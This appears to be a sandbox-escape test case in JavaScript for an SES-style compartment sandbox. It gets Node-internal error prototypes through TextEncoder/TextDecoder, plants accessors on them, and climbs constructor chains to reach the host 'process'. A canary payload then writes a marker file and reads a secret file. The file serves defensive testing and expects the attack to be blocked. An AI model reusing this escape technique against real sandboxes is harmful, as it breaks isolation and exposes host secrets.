// attack: TextEncoder/TextDecoder are Node's own classes handed to every compartment: make them throw Node-internal errors (ERR_ENCODING_NOT_SUPPORTED, ERR_INVALID_ARG_TYPE, ERR_INVALID_THIS, ERR_ENCODING_INVALID_ENCODED_DATA), climb those errors and their per-code prototypes, plant `code`/`message`/`name` accessors and a `toString` on the mutable prototypes, then make the host produce the same kinds of errors (capability calls with odd arguments, console.log of them, the runtime's reporter) so host code runs the planted accessors with host values
// source: Node lib/internal/errors.js (makeNodeErrorWithCode: one prototype per code); Endo SES permits.js (TextEncoder/TextDecoder are universal); vm2 GHSA-vwrp-x96c-mhwq (host error prototypes reachable from the guest)
// needs: fs
// category: escape
// expect: blocked - the planted accessors receive only error objects; no host function or authority is reachable (any mutable prototype is reported: it outlives the run)
const ID = '126-textencoder-node-errors';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const values = [];
const mutable = [];
const grab = (f) => { try { f(); } catch (e) { return e; } return undefined; };
const errs = [
  ['ERR_ENCODING_NOT_SUPPORTED', grab(() => new TextDecoder('no-such-label'))],
  ['ERR_INVALID_ARG_TYPE (encodeInto)', grab(() => new TextEncoder().encodeInto('x', 5))],
  ['decode(number)', grab(() => new TextDecoder().decode(123))],
  ['ERR_INVALID_THIS decode', grab(() => TextDecoder.prototype.decode.call({}))],
  ['ERR_INVALID_THIS encoding getter', grab(() => Reflect.get(TextDecoder.prototype, 'encoding', {}))],
  ['options not an object', grab(() => new TextDecoder('utf-8', 5))],
  ['ERR_ENCODING_INVALID_ENCODED_DATA', grab(() => new TextDecoder('utf-8', { fatal: true }).decode(new Uint8Array([0xff])))],
].filter(([, e]) => e);
let hostRan = 0;
const saved = [];
const plantedOn = new Set();
for (const [label, e] of errs) {
  values.push([label, e]);
  note(label + ': ' + String(e.code) + ' ' + msg(e).slice(0, 60));
  const p = Object.getPrototypeOf(e);
  values.push([label + ' proto', p]);
  if (Object.isFrozen(p) || plantedOn.has(p)) continue;
  plantedOn.add(p);
  mutable.push(label + ' prototype');
  saved.push([p, ['code', 'name', 'toString', 'then'].map((k) => [k, Object.getOwnPropertyDescriptor(p, k)])]);
  const watch = (what) => function () { hostRan++; values.push([label + ' ' + what + ' this', this], [label + ' ' + what + ' args', arguments]); };
  try { Object.defineProperty(p, 'code', { configurable: true, get: watch('code getter'), set: watch('code setter') }); } catch (x) { note(label + ' plant code: ' + msg(x)); }
  try { Object.defineProperty(p, 'name', { configurable: true, get() { watch('name getter').apply(this, arguments); return 'Planted'; } }); } catch (x) { note(label + ' plant name: ' + msg(x)); }
  try { p.toString = function () { watch('toString').apply(this, arguments); return 'planted'; }; } catch (x) { note(label + ' plant toString: ' + msg(x)); }
  try { Object.defineProperty(p, 'then', { configurable: true, get() { watch('then getter').apply(this, arguments); return undefined; } }); } catch (x) {}
}
// host code paths that create or read Node errors of these kinds
for (const [label, call] of [
  ['readFile(Symbol)', () => fs.readFile(Symbol('s'))],
  ['writeFile(out/x, number)', () => fs.writeFile('out/x', 5)],
  ['writeFile bytes view', () => fs.writeFile('out/x', new DataView(new ArrayBuffer(1)))],
  ['mkdir with mode', () => fs.mkdir('out/m', { mode: 'x' })],
]) { try { await call(); } catch (e) { values.push([label + ' error', e]); note(label + ': ' + msg(e).slice(0, 60)); } }
try { console.log(...errs.map(([, e]) => e)); } catch (e) { note('console: ' + msg(e)); }
note('planted accessors run by the host or engine: ' + hostRan);
// undo what we planted so nothing of it outlives the run (the test suite checks carry-over separately)
for (const [p, descs] of saved) for (const [k, d] of descs) { try { if (d) Object.defineProperty(p, k, d); else delete p[k]; } catch (x) {} }
const hit = await climbAll(values);
if (hit) return hit;
return { blocked: tried, untold, mutable };
